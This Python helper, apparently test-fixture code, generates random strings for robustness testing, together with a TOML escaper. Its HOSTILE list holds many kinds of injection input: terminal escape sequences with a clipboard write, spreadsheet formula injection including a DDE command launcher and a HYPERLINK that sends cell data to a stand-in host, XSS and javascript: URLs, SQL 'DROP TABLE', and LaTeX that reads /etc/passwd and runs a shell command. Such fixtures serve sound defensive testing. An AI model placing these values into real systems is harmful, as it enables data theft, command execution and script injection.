"""Texts that a careless program, terminal, browser, spreadsheet or typesetter would obey."""

from __future__ import annotations

from random import Random

HOSTILE = [
    "\x1b[2J\x1b[31mred",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b]0;title\x1b\\",
    "\x1bc",
    "\x9b31m\x9d52;c;ZXZpbA==\x9c",
    "\x00\x08\x0c\x7f",
    "\r\noverwritten\rover",
    "\u202ereversed\u202c",
    "\u2066isolated\u2069",
    "\u200e\u200f\u061c",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff",
    "\u2028line\u2029paragraph\u0085next",
    "\ufffe\uffff\ufdd0",
    "\U000e0041\U000e007f",
    "شارع שלום",
    '=HYPERLINK("http://x.example/"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "＝1+1",
    "'=1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "</style></svg></title>&amp;&#x1b;&lt;",
    "]]>--><!--",
    "[link](javascript:alert(3))",
    "javascript:alert(4)",
    "JaVaScRiPt:alert(5)",
    "https://example.org/?a=1&b=<2>\"'",
    "data:text/html,<script>alert(6)</script>",
    "\\input{/etc/passwd}\\write18{id} $x$ % & # _ ^ ~ { }",
    "`code` | pipe | **bold** # head\n# head",
    '"; DROP TABLE run; --',
    "quote \" and ' and \\ at the end\\",
    "-> -- { } [label=x]",
    "Donaudampfschifffahrtselektrizitätenhauptbetriebswerk" * 8,
    "🏳️‍🌈 e\u0301\u0301\u0301\u0301\u0301\u0301",
    "",
    " ",
]

PLAIN = [
    "Withdraw the troops",
    "Build a dam",
    "Keep talking",
    "Go to court",
    "Raise tariffs",
    "The Ministry",
    "A \"quoted\" name",
    "50 % of it",
    "Naïve café",
]


def text(draw: Random, hostile: float = 0.25) -> str:
    """Draws a text for people, sometimes a hostile one."""
    if draw.random() < hostile:
        chosen = draw.choice(HOSTILE)
        return f"{draw.choice(PLAIN)} {chosen}" if draw.random() < 0.4 else chosen
    return draw.choice(PLAIN)


def toml(words: str) -> str:
    """Writes a text as a TOML string: what cannot stand in one is escaped."""
    out = []
    for c in words:
        code = ord(c)
        if c in '"\\':
            out.append("\\" + c)
        elif code < 0x20 or code == 0x7F:
            out.append(f"\\u{code:04x}")
        else:
            out.append(c)
    return '"' + "".join(out) + '"'
